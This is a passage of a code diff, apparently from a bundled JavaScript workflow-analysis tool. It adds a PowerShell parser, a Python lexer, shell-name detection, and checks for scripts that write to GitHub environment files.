+        while (this.at < text.length) {
+            const start = this.at;
+            const char = text[start];
+            if (closer !== "" && char === closer)
+                break;
+            if (this.blank(char))
+                continue;
+            if (this.comment(char))
+                continue;
+            if (char === "\n" || char === ";") {
+                const isEmpty = draft === undefined && stages.length === 0;
+                if (!isEmpty && !(char === "\n" && this.pipeFollows()))
+                    endPipeline();
+                this.at++;
+            }
+            else if (char === "|") {
+                if (text[start + 1] === "|") {
+                    endPipeline();
+                    this.at += 2;
+                }
+                else {
+                    endCommand();
+                    this.at++;
+                    this.skipNewlines();
+                }
+            }
+            else if (char === "&") {
+                this.at++;
+                if (text[start + 1] === "&") {
+                    endPipeline();
+                    this.at++;
+                }
+                else if (draft)
+                    endPipeline();
+                else
+                    draft = newDraft(start, true);
+            }
+            else if (char === "." && !draft && /\s/.test(text[start + 1] ?? "")) {
+                draft = newDraft(start, true);
+                this.at++;
+            }
+            else if (char === "," || (char === ")" && closer !== ")") || (char === "}" && closer !== "}")) {
+                this.at++;
+            }
+            else if (char === "{" && (!draft || (draft.isCall && draft.words.length === 0)) && this.depth < pwsh_read_MAX_DEPTH) {
+                const isCall = draft !== undefined;
+                draft = undefined;
+                this.block(place, condition, into);
+                if (!isCall)
+                    condition = undefined;
+            }
+            else if (this.redirectAt(start)) {
+                draft ??= newDraft(start, false);
+                draft.redirects.push(this.redirect(place));
+                draft.end = this.at;
+            }
+            else if (draft && this.assignmentAt(start) && this.startAssignment(draft)) {
+                this.at += char === "=" ? 1 : 2;
+            }
+            else {
+                const word = this.word(place, draft === undefined);
+                const keyword = draft === undefined ? word.text.toLowerCase() : "";
+                if (KEYWORDS.has(keyword)) {
+                    endPipeline();
+                    condition = KEYWORDS.get(keyword);
+                    this.header(place, keyword, into);
+                }
+                else if (!PREFIXES.has(keyword)) {
+                    draft ??= newDraft(start, false);
+                    draft.words.push(word);
+                    draft.end = this.at;
+                }
+            }
+            if (this.at === start)
+                this.at++;
+        }
+        endPipeline();
+    }
+    blank(char) {
+        if (char === " " || char === "\t" || char === "\r") {
+            this.at++;
+            return true;
+        }
+        if (char === "`") {
+            // A backtick at the end of a line continues it.
+            const next = this.text[this.at + 1];
+            if (next === "\n" || next === undefined)
+                this.at += 2;
+            else if (next === "\r")
+                this.at += 3;
+            else
+                return false;
+            this.at = Math.min(this.at, this.text.length);
+            return true;
+        }
+        return false;
+    }
+    comment(char) {
+        const { text, at } = this;
+        const isBlock = char === "<" && text[at + 1] === "#";
+        if (!isBlock && char !== "#")
+            return false;
+        this.recorder.enter(at, "comment");
+        const end = isBlock ? text.indexOf("#>", at + 2) : text.indexOf("\n", at);
+        this.at = end < 0 ? text.length : isBlock ? end + 2 : end;
+        this.recorder.enter(this.at, "none");
+        return true;
+    }
+    /** A line that begins with `|` goes on with the line before (PowerShell 7). */
+    pipeFollows() {
+        let at = this.at + 1;
+        while (at < this.text.length && " \t\r\n".includes(this.text[at]))
+            at++;
+        return this.text[at] === "|" && this.text[at + 1] !== "|";
+    }
+    skipNewlines() {
+        while (this.at < this.text.length && " \t\r\n".includes(this.text[this.at]))
+            this.at++;
+    }
+    /** What stands between a keyword and its block: a condition in parentheses, a function's name. */
+    header(place, keyword, into) {
+        const { text } = this;
+        while (this.at < text.length && " \t".includes(text[this.at]))
+            this.at++;
+        if (keyword === "function" || keyword === "filter") {
+            while (this.at < text.length && /[\w:-]/.test(text[this.at]))
+                this.at++;
+        }
+        while (this.at < text.length && /[\w \t-]/.test(text[this.at]) && keyword === "switch")
+            this.at++;
+        while (this.at < text.length && " \t".includes(text[this.at]))
+            this.at++;
+        if (text[this.at] !== "(" || this.depth >= pwsh_read_MAX_DEPTH)
+            return;
+        const condition = keyword.endsWith("if")
+            ? "if-test"
+            : keyword === "while"
+                ? "loop-test"
+                : undefined;
+        this.at++;
+        this.nested(condition ? read_under(place, condition) : place, ")", into);
+    }
+    block(place, condition, into) {
+        const start = this.at;
+        const commands = [];
+        const group = {
+            kind: "block",
+            start,
+            end: start,
+            name: undefined,
+            words: [],
+            redirects: [],
+            commands,
+            place,
+            pipeline: undefined,
+        };
+        this.groups.push(group);
+        this.at++;
+        this.nested({ ...(condition ? read_under(place, condition) : place), group }, "}", commands);
+        group.end = this.at;
+        for (const command of commands)
+            into.push(command);
+    }
+    /** Statements up to and with the closing bracket; `at` is after the opening one. */
+    nested(place, closer, into) {
+        this.depth++;
+        this.statements(place, closer, into);
+        this.depth--;
+        if (this.at < this.text.length)
+            this.at++;
+    }
+    assignmentAt(at) {
+        const char = this.text[at];
+        return char === "=" || ("+-*/".includes(char) && this.text[at + 1] === "=");
+    }
+    /** `$x =`, `$x +=`: what follows is the value. */
+    startAssignment(draft) {
+        const target = draft.words[0];
+        const variable = target?.parts[target.parts.length - 1];
+        if (draft.assignment || draft.isCall || variable?.kind !== "variable" || draft.words.length > 1)
+            return false;
+        draft.assignment = { name: variable.name, append: this.text[this.at] !== "=", start: draft.start };
+        draft.words = [];
+        return true;
+    }
+    finish(draft, place) {
+        const { assignment, words } = draft;
+        const isExpression = !draft.isCall && (words.length === 0 || isExpressionWord(words[0]));
+        const assignments = assignment
+            ? [
+                {
+                    start: assignment.start,
+                    end: draft.end,
+                    name: assignment.name,
+                    append: assignment.append,
+                    values: isExpression ? words : [],
+                },
+            ]
+            : [];
+        const command = {
+            kind: "command",
+            start: draft.start,
+            end: Math.max(draft.end, draft.start + 1),
+            name: isExpression ? undefined : words[0],
+            args: isExpression ? (assignment ? [] : words) : words.slice(1),
+            assignments,
+            redirects: draft.redirects,
+            place,
+            pipeline: undefined,
+        };
+        this.commands.push(command);
+        return command;
+    }
+    redirectAt(offset) {
+        pwsh_read_REDIRECT.lastIndex = offset;
+        return pwsh_read_REDIRECT.test(this.text);
+    }
+    redirect(place) {
+        const start = this.at;
+        pwsh_read_REDIRECT.lastIndex = start;
+        const match = pwsh_read_REDIRECT.exec(this.text);
+        this.at += match[0].length;
+        const descriptor = match[1] === "" ? undefined : match[1];
+        if (match[3])
+            return { start, end: this.at, operator: ">&", descriptor, target: undefined, heredoc: undefined };
+        while (this.at < this.text.length && " \t".includes(this.text[this.at]))
+            this.at++;
+        const hasTarget = this.at < this.text.length && !"\r\n;|)}".includes(this.text[this.at]);
+        const target = hasTarget ? this.word(place, false) : undefined;
+        return { start, end: this.at, operator: match[2], descriptor, target, heredoc: undefined };
+    }
+    /** Reads one word; `isFirst`: an unquoted `=` ends it, since it may be an assignment's target. */
+    word(place, isFirst) {
+        const { text } = this;
+        const start = this.at;
+        const parts = [];
+        let value = "";
+        let valueStart = start;
+        const flush = () => {
+            if (value !== "")
+                appendLiteral(parts, this.source, value, valueStart, this.at, "none");
+            value = "";
+        };
+        while (this.at < text.length) {
+            const char = text[this.at];
+            const from = this.at;
+            if (" \t\r\n;|,)}".includes(char) || (char === "&" && from > start))
+                break;
+            if (isFirst && parts.length > 0 && value === "" && this.assignmentAt(from))
+                break;
+            if (char === ">" && from > start)
+                break;
+            if (char === "'" || char === '"') {
+                flush();
+                this.string(parts, char, place);
+            }
+            else if (char === "@" && (text[from + 1] === '"' || text[from + 1] === "'")) {
+                flush();
+                this.hereString(parts, text[from + 1], place);
+            }
+            else if (char === "`" && from + 1 < text.length) {
+                if (text[from + 1] === "\n" || text[from + 1] === "\r")
+                    break;
+                if (value === "")
+                    valueStart = from;
+                value += text[from + 1];
+                this.at += 2;
+                continue;
+            }
+            else if (this.bracketAt(from)) {
+                flush();
+                this.bracket(parts, "none", place);
+            }
+            else if (char === "$" && this.variableAt(from)) {
+                flush();
+                this.variable(parts, "none");
+            }
+            else if (char === "@" && this.splatAt(from)) {
+                flush();
+                parts.push({
+                    kind: "variable",
+                    start: from,
+                    end: SPLAT.lastIndex,
+                    quoted: "none",
+                    name: text.slice(from + 1, SPLAT.lastIndex),
+                    operator: "@",
+                    operand: [],
+                });
+                this.at = SPLAT.lastIndex;
+            }
+            else {
+                if (value === "")
+                    valueStart = from;
+                value += char;
+                this.at++;
+                continue;
+            }
+            valueStart = this.at;
+        }
+        if (this.at === start) {
+            value = text[start] ?? "";
+            valueStart = start;
+            this.at = Math.min(start + 1, text.length);
+        }
+        flush();
+        return new PwshWord(this.source, { start, end: this.at }, parts);
+    }
+    bracketAt(at) {
+        if (this.depth >= pwsh_read_MAX_DEPTH)
+            return false;
+        const char = this.text[at];
+        const next = this.text[at + 1];
+        return (char === "(" ||
+            char === "{" ||
+            ((char === "$" || char === "@") && (next === "(" || (next === "{" && char === "@"))));
+    }
+    variableAt(at) {
+        pwsh_read_VARIABLE.lastIndex = at;
+        return pwsh_read_VARIABLE.test(this.text);
+    }
+    splatAt(at) {
+        SPLAT.lastIndex = at;
+        return SPLAT.test(this.text);
+    }
+    variable(parts, quoted) {
+        pwsh_read_VARIABLE.lastIndex = this.at;
+        const match = pwsh_read_VARIABLE.exec(this.text);
+        const start = this.at;
+        this.at += match[0].length;
+        const name = match[1] ?? match[2];
+        // `${${{ x }}}` and the like: the name is what the expression gives.
+        const inner = literalParts(this.source, name, start, this.at, quoted).filter((part) => part.kind === "expression");
+        parts.push({
+            kind: "variable",
+            start,
+            end: this.at,
+            quoted,
+            name: withLowerDrive(name),
+            operator: undefined,
+            operand: inner,
+        });
+    }
+    /** `(…)`, `$(…)`, `@(…)`, `{…}`, `@{…}`: its commands are the script's too. */
+    bracket(parts, quoted, place) {
+        const start = this.at;
+        if (this.text[start] === "$" || this.text[start] === "@")
+            this.at++;
+        const closer = this.text[this.at] === "{" ? "}" : ")";
+        this.at++;
+        const commands = [];
+        this.nested({ ...place, inSubstitution: true, group: undefined }, closer, commands);
+        parts.push({ kind: "substitution", start, end: this.at, quoted, commands });
+    }
+    string(parts, quote, place) {
+        const start = this.at;
+        if (quote === "'") {
+            let end = start + 1;
+            for (;;) {
+                end = this.text.indexOf("'", end);
+                if (end < 0)
+                    end = this.text.length;
+                else if (this.text[end + 1] === "'") {
+                    end += 2;
+                    continue;
+                }
+                break;
+            }
+            this.quote(parts, "single", "single", start, start + 1, Math.min(end, this.text.length), Math.min(end + 1, this.text.length));
+            return;
+        }
+        this.at++;
+        this.recorder.enter(start, "double");
+        this.expandable(parts, "double", place, start, '"');
+        this.at = Math.min(this.at + 1, this.text.length);
+        this.recorder.enter(this.at, "none");
+    }
+    /** A text without expansions; `''` is one quote. */
+    quote(parts, quoted, quoting, start, bodyStart, bodyEnd, end) {
+        this.recorder.enter(start, quoting);
+        const body = this.text.slice(bodyStart, bodyEnd);
+        const value = quoting === "single" ? body.replaceAll("''", "'") : body;
+        if (value === "")
+            parts.push({ kind: "literal", start, end, quoted, value });
+        else
+            appendLiteral(parts, this.source, value, start, end, quoted);
+        this.at = end;
+        this.recorder.enter(end, "none");
+    }
+    hereString(parts, quote, place) {
+        const start = this.at;
+        const { text } = this;
+        let newline = start + 2;
+        while (newline < text.length && " \t\r".includes(text[newline]))
+            newline++;
+        if (text[newline] !== "\n") {
+            // Not a here-string: `@` is text before a plain string.
+            parts.push({ kind: "literal", start, end: start + 1, quoted: "none", value: "@" });
+            this.at++;
+            return;
+        }
+        const close = text.indexOf(`\n${quote}@`, newline);
+        const bodyEnd = close < 0 ? text.length : Math.max(close, newline + 1);
+        const end = close < 0 ? text.length : close + 3;
+        if (quote === "'") {
+            this.quote(parts, "single", "here-string-single", start, newline + 1, bodyEnd, end);
+            return;
+        }
+        this.recorder.enter(start, "here-string-double");
+        this.at = newline + 1;
+        this.expandable(parts, "heredoc", place, start, "", bodyEnd);
+        this.at = end;
+        this.recorder.enter(end, "none");
+    }
+    /** The inside of a string that expands, up to its closing quote or `limit`. */
+    expandable(parts, quoted, place, open, quote, limit = this.text.length) {
+        const { text } = this;
+        const quoting = quoted === "double" ? "double" : "here-string-double";
+        const before = parts.length;
+        let value = "";
+        let valueStart = open;
+        const flush = () => {
+            if (value !== "")
+                appendLiteral(parts, this.source, value, valueStart, this.at, quoted);
+            value = "";
+        };
+        while (this.at < limit) {
+            const char = text[this.at];
+            if (char === quote) {
+                if (text[this.at + 1] !== quote)
+                    break;
+                value += quote;
+                this.at += 2;
+            }
+            else if (char === "`" && this.at + 1 < limit) {
+                value += read_ESCAPES.get(text[this.at + 1]) ?? text[this.at + 1];
+                this.at += 2;
+            }
+            else if (char === "$" && text[this.at + 1] === "(" && this.depth < pwsh_read_MAX_DEPTH) {
+                flush();
+                this.recorder.enter(this.at, "none");
+                this.bracket(parts, quoted, place);
+                this.recorder.enter(this.at, quoting);
+                valueStart = this.at;
+            }
+            else if (char === "$" && this.variableAt(this.at)) {
+                flush();
+                this.variable(parts, quoted);
+                valueStart = this.at;
+            }
+            else {
+                value += char;
+                this.at++;
+            }
+        }
+        this.at = Math.min(this.at, text.length);
+        flush();
+        if (parts.length === before)
+            parts.push({ kind: "literal", start: open, end: this.at, quoted, value: "" });
+    }
+}
+const read_ESCAPES = new Map([
+    ["n", "\n"],
+    ["r", "\r"],
+    ["t", "\t"],
+    ["0", "\0"],
+]);
+class PwshWord {
+    source;
+    parts;
+    start;
+    end;
+    constructor(source, span, parts) {
+        this.source = source;
+        this.parts = parts;
+        this.start = span.start;
+        this.end = span.end;
+    }
+    get text() {
+        return this.source.text.slice(this.start, this.end);
+    }
+    get literal() {
+        return literalOf(this.parts);
+    }
+}
+function newDraft(start, isCall) {
+    return { start, end: start, words: [], redirects: [], isCall, assignment: undefined };
+}
+/** A statement that begins so is a value, not the name of a command. */
+function isExpressionWord(word) {
+    return /^(?:[$@"'([{\d]|-\d|\$\{\{)/.test(word.text) && !word.text.startsWith("${{");
+}
+function read_under(place, condition) {
+    return { ...place, conditions: [...place.conditions, condition] };
+}
+/** `$Env:X` and `$env:X` are the same. */
+function withLowerDrive(name) {
+    const colon = name.indexOf(":");
+    return colon < 0 ? name : name.slice(0, colon).toLowerCase() + name.slice(colon);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/python/lex.js
+
+
+const PREFIX = /(?:[rRbBuUfFtT]{1,2})?(?="|')/y;
+const python_lex_MAX_DEPTH = 50;
+/**
+ * String literals and comments of a Python script. Never throws.
+ *
+ * @see The Python Language Reference, 2.4 "Literals" and 2.4.3 "f-strings"
+ */
+function lexPython(source) {
+    return new PythonLexer(source).run();
+}
+class PythonLexer {
+    source;
+    text;
+    recorder = new RegionRecorder();
+    strings = [];
+    at = 0;
+    depth = 0;
+    constructor(source) {
+        this.source = source;
+        this.text = source.masked;
+    }
+    run() {
+        this.code("none", "");
+        this.strings.sort((a, b) => a.start - b.start);
+        return { regions: this.recorder.finish(this.text.length), strings: this.strings };
+    }
+    /** Code up to `end`: the whole text, or the field of an f-string with brackets balanced. */
+    code(quoting, closer, outerQuote = "") {
+        const { text } = this;
+        let open = 0;
+        while (this.at < text.length) {
+            const char = text[this.at];
+            if (closer !== "") {
+                if (char === closer && open === 0)
+                    return;
+                // Before Python 3.12 the quote ends the string even here; an unclosed field shouldn't swallow the script.
+                if (char === "\n" && outerQuote.length === 1)
+                    return;
+                if (char === ":" && open === 0) {
+                    this.formatSpec(outerQuote);
+                    return;
+                }
+                if ("([{".includes(char))
+                    open++;
+                if (")]}".includes(char))
+                    open--;
+                if (outerQuote !== "" && text.startsWith(outerQuote, this.at))
+                    return;
+            }
+            if (char === "#" && closer === "")
+                this.comment();
+            else if (char === '"' || char === "'")
+                this.string(this.prefixStart(), quoting);
+            else
+                this.at++;
+        }
+    }
+    formatSpec(outerQuote) {
+        const { text } = this;
+        while (this.at < text.length) {
+            const char = text[this.at];
+            if (char === "}" || char === "\n" || text.startsWith(outerQuote, this.at))
+                return;
+            if (char === "{" && this.depth < python_lex_MAX_DEPTH) {
+                this.at++;
+                this.depth++;
+                this.code("f-string-field", "}", outerQuote);
+                this.depth--;
+                if (text[this.at] === "}")
+                    this.at++;
+            }
+            else
+                this.at++;
+        }
+    }
+    comment() {
+        this.recorder.enter(this.at, "comment");
+        const end = this.text.indexOf("\n", this.at);
+        this.at = end < 0 ? this.text.length : end;
+        this.recorder.enter(this.at, "none");
+    }
+    /** Offset of the letters before the quote at `at`, if they are a prefix. */
+    prefixStart() {
+        for (const length of [2, 1]) {
+            const start = this.at - length;
+            if (start < 0 || /\w/.test(this.text[start - 1] ?? " "))
+                continue;
+            PREFIX.lastIndex = start;
+            if (PREFIX.exec(this.text)?.[0].length === length)
+                return start;
+        }
+        return this.at;
+    }
+    string(start, outer) {
+        const { text } = this;
+        const prefix = text.slice(start, this.at).toLowerCase();
+        const kind = lex_kindOf(prefix);
+        const char = text[this.at];
+        const quote = text.startsWith(char.repeat(3), this.at) ? char.repeat(3) : char;
+        this.recorder.enter(start, kind);
+        this.at += quote.length;
+        const bodyStart = this.at;
+        const isFormat = kind === "f-string" || kind === "raw-f-string";
+        let hasFields = false;
+        while (this.at < text.length) {
+            const next = text[this.at];
+            if (next === "\\")
+                this.at += 2;
+            else if (text.startsWith(quote, this.at))
+                break;
+            else if (next === "\n" && quote.length === 1)
+                break;
+            else if (isFormat && next === "{") {
+                if (text[this.at + 1] === "{" || this.depth >= python_lex_MAX_DEPTH)
+                    this.at += 2;
+                else {
+                    hasFields = true;
+                    this.field(quote, kind);
+                }
+            }
+            else
+                this.at++;
+        }
+        const bodyEnd = Math.min(this.at, text.length);
+        this.at = text.startsWith(quote, bodyEnd) ? bodyEnd + quote.length : bodyEnd;
+        this.recorder.enter(this.at, outer);
+        const isStatic = !hasFields && !holdsExpression(this.source.expressions, start, this.at);
+        this.strings.push({
+            start,
+            end: this.at,
+            body: { start: bodyStart, end: bodyEnd },
+            kind,
+            quote,
+            value: isStatic ? lex_decode(text.slice(bodyStart, bodyEnd), kind) : undefined,
+        });
+    }
+    field(quote, kind) {
+        this.at++;
+        this.recorder.enter(this.at, "f-string-field");
+        this.depth++;
+        this.code("f-string-field", "}", quote);
+        this.depth--;
+        this.recorder.enter(this.at, kind);
+        if (this.text[this.at] === "}")
+            this.at++;
+    }
+}
+function lex_kindOf(prefix) {
+    const isRaw = prefix.includes("r");
+    if (prefix.includes("b"))
+        return isRaw ? "raw-bytes" : "bytes";
+    if (prefix.includes("f") || prefix.includes("t"))
+        return isRaw ? "raw-f-string" : "f-string";
+    return isRaw ? "raw-string" : "string";
+}
+const lex_ESCAPES = new Map([
+    ["n", "\n"],
+    ["r", "\r"],
+    ["t", "\t"],
+    ["\n", ""],
+]);
+function lex_decode(body, kind) {
+    const text = kind === "f-string" || kind === "raw-f-string" ? body.replaceAll("{{", "{").replaceAll("}}", "}") : body;
+    if (kind.startsWith("raw") || !text.includes("\\"))
+        return text;
+    return text.replace(/\\([\s\S])/g, (whole, char) => lex_ESCAPES.get(char) ?? ("\\'\"".includes(char) ? char : whole));
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/script.js
+
+
+
+
+
+
+
+
+const NO_COMMANDS = { commands: [], groups: [] };
+/**
+ * The text of one `run:` (or of an input that is code), read when asked for. Offsets are UTF-16 offsets into `text`.
+ * Nothing here throws, whatever the text.
+ */
+class Script {
+    text;
+    shell;
+    given;
+    #source;
+    #parsed;
+    #regions;
+    #strings;
+    constructor(text, shell, given) {
+        this.text = text;
+        this.shell = shell;
+        this.given = given;
+    }
+    /** The `${{ }}` in order, with their fences. */
+    get expressions() {
+        return this.source.expressions;
+    }
+    /** Simple commands in source order, those in substitutions, functions and `bash -c` texts included; none of Python and JavaScript. */
+    get commands() {
+        return this.parsed.commands;
+    }
+    /** Compound commands in the order of their beginnings. */
+    get groups() {
+        return this.parsed.groups;
+    }
+    /** What isn't plain code: quotes, comments, here-documents. */
+    get regions() {
+        this.#regions ??= this.readRegions();
+        return this.#regions;
+    }
+    /** String literals of Python and JavaScript, in order of their beginnings; none of the shells. */
+    get strings() {
+        if (!this.#strings)
+            this.readRegions();
+        return this.#strings ?? [];
+    }
+    /** What an offset is inside of; a quote itself counts as inside, the fence of a substitution as outside. */
+    quotingAt(offset) {
+        return quotingIn(this.regions, offset);
+    }
+    /** The innermost string literal around an offset; Python and JavaScript only. */
+    stringAt(offset) {
+        return this.strings.findLast(({ start, end }) => start <= offset && offset < end);
+    }
+    get source() {
+        this.#source ??= scriptSource(this.text, this.given);
+        return this.#source;
+    }
+    get parsed() {
+        this.#parsed ??= this.read();
+        return this.#parsed;
+    }
+    read() {
+        switch (this.shell) {
+            case "bash":
+            case "sh":
+                return readBash(this.source);
+            case "unknown":
+                return readWords(this.source);
+            case "pwsh":
+            case "powershell":
+                return this.keepRegions(readPwsh(this.source));
+            case "cmd":
+                return this.keepRegions(readCmd(this.source));
+            default:
+                return NO_COMMANDS;
+        }
+    }
+    readRegions() {
+        switch (this.shell) {
+            case "python":
+            case "javascript": {
+                const lexed = this.shell === "python" ? lexPython(this.source) : lexJavaScript(this.source);
+                this.#strings = lexed.strings;
+                this.#regions = lexed.regions;
+                return lexed.regions;
+            }
+            case "bash":
+            case "sh":
+            case "unknown":
+                return scanBash(this.source.masked).regions;
+            default:
+                // One pass finds both.
+                void this.parsed;
+                return this.#regions ?? [];
+        }
+    }
+    keepRegions(read) {
+        this.#regions = read.regions;
+        return read;
+    }
+}
+/**
+ * A script that is read when its commands or quotes are asked for.
+ *
+ * @param text the decoded text, `${{ }}` and all
+ * @param expressions the `${{ }}` of the text, ordered; found here when the caller hasn't found them already
+ */
+function parseScript(text, shell, expressions) {
+    return new Script(text, shell, expressions);
+}
+/** What an offset of the script is inside of; see `Script.quotingAt`. */
+function quotingAt(script, offset) {
+    return script.quotingAt(offset);
+}
+/** Does the text hold any of the names, in any case? A look that is cheap enough to come before parsing. */
+function mentions(text, names) {
+    let lower;
+    for (const name of names) {
+        if (text.includes(name))
+            return true;
+        lower ??= text.toLowerCase();
+        if (lower.includes(name.toLowerCase()))
+            return true;
+    }
+    return false;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/shell-name.js
+const shell_name_SHELLS = new Map([
+    ["bash", "bash"],
+    ["sh", "sh"],
+    ["dash", "sh"],
+    ["ash", "sh"],
+    ["zsh", "bash"],
+    ["ksh", "bash"],
+    ["pwsh", "pwsh"],
+    ["pwsh-preview", "pwsh"],
+    ["powershell", "powershell"],
+    ["cmd", "cmd"],
+    ["node", "javascript"],
+    ["nodejs", "javascript"],
+    ["bun", "javascript"],
+    ["deno", "javascript"],
+]);
+const PYTHON = /^(?:python|pypy)[0-9.]*$/;
+const shell_name_WRAPPERS = new Set(["env", "sudo", "command", "exec"]);
+/**
+ * The language of a script from the value of its `shell:` key, which is a name (`bash`) or a command line with `{0}` in
+ * the place of the script's file (`/bin/bash -e {0}`, `C:\Program Files\Git\bin\bash.exe {0}`).
+ *
+ * @see GitHub's workflow syntax, `jobs.<job_id>.steps[*].shell`, "Custom shell"
+ */
+function shellOf(value) {
+    return shell_name_SHELLS.get(value) ?? languageOf(value.trim().toLowerCase());
+}
+function languageOf(line) {
+    const words = line.split(/\s+/);
+    for (let count = 1; count <= words.length; count++) {
+        const program = shell_name_baseName(words.slice(0, count).join(" "));
+        const known = shell_name_SHELLS.get(program) ?? (PYTHON.test(program) ? "python" : undefined);
+        if (known)
+            return known;
+        // `/usr/bin/env bash {0}`: look at what follows; a Windows path may hold spaces, so go on until a program ends.
+        if (shell_name_WRAPPERS.has(program))
+            return languageOf(words.slice(count).filter(isProgram).join(" "));
+        if (!isUnfinishedPath(words[0]) || count > 8)
+            return "unknown";
+    }
+    return "unknown";
+}
+function isProgram(word) {
+    return !word.startsWith("-") && !word.includes("=");
+}
+function isUnfinishedPath(first) {
+    return /^["']?[a-z]:[\\/]/.test(first) || first.startsWith('"') || first.startsWith("'");
+}
+function shell_name_baseName(path) {
+    const bare = path.replaceAll(/["']/g, "");
+    const cut = Math.max(bare.lastIndexOf("/"), bare.lastIndexOf("\\"));
+    return bare.slice(cut + 1).replace(/\.(?:exe|cmd|bat)$/, "");
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/embedded-programs.js
+
+
+/** `python - <<EOF …`, `python -c "…"`, `node -e '…'`, `pwsh -Command '…'` where the text is there word for word. */
+function embeddedPrograms(script) {
+    const found = [];
+    for (const command of script.commands) {
+        const shell = embedded_programs_languageOf(command);
+        if (!shell)
+            continue;
+        for (const { heredoc } of command.redirects)
+            if (heredoc)
+                found.push({ shell, ...heredoc.body });
+        const { args } = effectiveCommand(command);
+        for (let index = 1; index < args.length; index++) {
+            if (!/^-(?:c|e|p|-eval|command|-command)$/i.test(args[index - 1]?.literal ?? ""))
+                continue;
+            const body = quotedBody(args[index], script);
+            if (body)
+                found.push({ shell, ...body });
+        }
+    }
+    return found;
+}
+function embedded_programs_languageOf(command) {
+    const program = effectiveCommand(command).name?.literal;
+    if (program === undefined)
+        return undefined;
+    const shell = shellOf(program);
+    return shell === "python" || shell === "javascript" || shell === "pwsh" || shell === "powershell" ? shell : undefined;
+}
+function quotedBody({ start, end }, script) {
+    const quote = script.text[start];
+    const isQuoted = (quote === "'" || quote === '"') && end - start > 1 && script.text[end - 1] === quote;
+    return isQuoted ? { start: start + 1, end: end - 1 } : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/program-writes.js
+
+/** More are found in no program that a person wrote; each costs a look at the whole. */
+const MAX_REFERENCES = 40;
+const MAX_USES = 40;
+/** No statement of a person is longer. */
+const MAX_STATEMENT = 20_000;
+/** Writes by a Python script: `open(os.environ["GITHUB_ENV"], "a")`, `Path(os.getenv("GITHUB_ENV")).write_text(…)`. */
+function pythonWrites(script, names) {
+    const code = blankStrings(script);
+    const writes = [];
+    const dynamic = dynamicPythonContent(script, code);
+    for (const reference of pythonReferences(script, code, names).slice(0, MAX_REFERENCES)) {
+        const before = code.slice(0, reference.start);
+        const alias = /(?:^|\n)[ \t]*([A-Za-z_]\w*)[ \t]*(?::[^=\n]*)?=[ \t]*$/.exec(before.slice(-200))?.[1];
+        const places = alias === undefined ? [reference] : usesOf(code, alias, reference);
+        for (const place of places) {
+            if (!isWrittenInPython(script, code, place))
+                continue;
+            writes.push(program_writes_made(script, code, { ...place, file: reference.file }, dynamic));
+        }
+    }
+    return writes;
+}
+/** Writes by JavaScript: `fs.appendFileSync(process.env.GITHUB_ENV, "…")`. */
+function javascriptWrites(script, names) {
+    const code = blankStrings(script);
+    const writes = [];
+    for (const reference of javascriptReferences(script, code, names).slice(0, MAX_REFERENCES)) {
+        const before = code.slice(Math.max(0, reference.start - 200), reference.start);
+        const alias = /\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*$/.exec(before)?.[1];
+        const places = alias === undefined ? [reference] : usesOf(code, alias, reference);
+        for (const place of places) {
+            if (!/\b(?:appendFile|writeFile|createWriteStream|outputFile)(?:Sync)?\s*\(\s*$/.test(code.slice(Math.max(0, place.start - 60), place.start))) {
+                continue;
+            }
+            const end = closingBracket(code, place.end);
+            const content = { start: place.end, end };
+            const isFixed = code[place.end] === "," && isFixedText(script, code, content);
+            writes.push(program_writes_made(script, code, { ...place, file: reference.file }, isFixed ? undefined : content));
+        }
+    }
+    return writes;
+}
+/** The code with strings, comments and expressions replaced by blanks: what a pattern may look at. */
+function blankStrings(script) {
+    let code = "";
+    let at = 0;
+    for (const { start, end, quoting } of script.regions) {
+        if (quoting === "f-string-field" || quoting === "template-expression")
+            continue;
+        code += script.text.slice(at, start) + script.text.slice(start, end).replace(/[^\n]/g, " ");
+        at = end;
+    }
+    return code + script.text.slice(at);
+}
+function pythonReferences(script, code, names) {
+    const found = [];
+    for (const string of script.strings) {
+        if (string.value === undefined || !names.includes(string.value))
+            continue;
+        const opening = /(?:os\.)?(?:environ(?:\.get)?\s*[[(]|getenv\s*\()\s*$/.exec(code.slice(Math.max(0, string.start - 60), string.start));
+        if (!opening)
+            continue;
+        const closing = code.slice(string.end, string.end + 200).search(/[\])]/);
+        const end = closing < 0 ? string.end : string.end + closing + 1;
+        found.push({ file: string.value, start: string.start - opening[0].length, end });
+    }
+    return found;
+}
+function javascriptReferences(script, code, names) {
+    const found = [];
+    for (const match of code.matchAll(/\bprocess\.env\.([A-Z_]{1,40})\b/g)) {
+        const file = match[1];
+        if (names.includes(file))
+            found.push({ file, start: match.index, end: match.index + match[0].length });
+    }
+    for (const string of script.strings) {
+        if (string.value === undefined || !names.includes(string.value))
+            continue;
+        const opening = /\bprocess\.env\s*\[\s*$/.exec(code.slice(Math.max(0, string.start - 40), string.start));
+        if (opening)
+            found.push({
+                file: string.value,
+                start: string.start - opening[0].length,
+                end: code.indexOf("]", string.end) + 1 || string.end,
+            });
+    }
+    return found.sort((a, b) => a.start - b.start);
+}
+/** Where a variable that holds the path is used after it was set. */
+function usesOf(code, name, after) {
+    const uses = [];
+    const escaped = name.replaceAll("$", "\\$");
+    for (const match of code.matchAll(new RegExp(`(?<![\\w$.])${escaped}(?![\\w$])`, "g"))) {
+        if (match.index > after.end)
+            uses.push({ start: match.index, end: match.index + name.length });
+        if (uses.length === MAX_USES)
+            break;
+    }
+    return uses;
+}
+function isWrittenInPython(script, code, { start, end }) {
+    const before = code.slice(Math.max(0, start - 60), start);
+    if (/\bopen\s*\(\s*(?:file\s*=\s*)?$/.test(before))
+        return isWriteMode(script, code, end);
+    if (!/\bPath\s*\(\s*$/.test(before))
+        return false;
+    const after = /^\s*\)\s*\.\s*(write_text|write_bytes|open)\s*\(/.exec(code.slice(end, end + 100));
+    return after !== null && (after[1] !== "open" || isWriteMode(script, code, end + after[0].length));
+}
+/** Does the next string up to the closing bracket say that the file is opened to write? */
+function isWriteMode(script, code, from) {
+    const limit = closingBracket(code, from);
+    const mode = script.strings.find(({ start }) => start >= from && start < limit);
+    return mode?.value !== undefined && /[wax+]/.test(mode.value);
+}
+function dynamicPythonContent(script, code) {
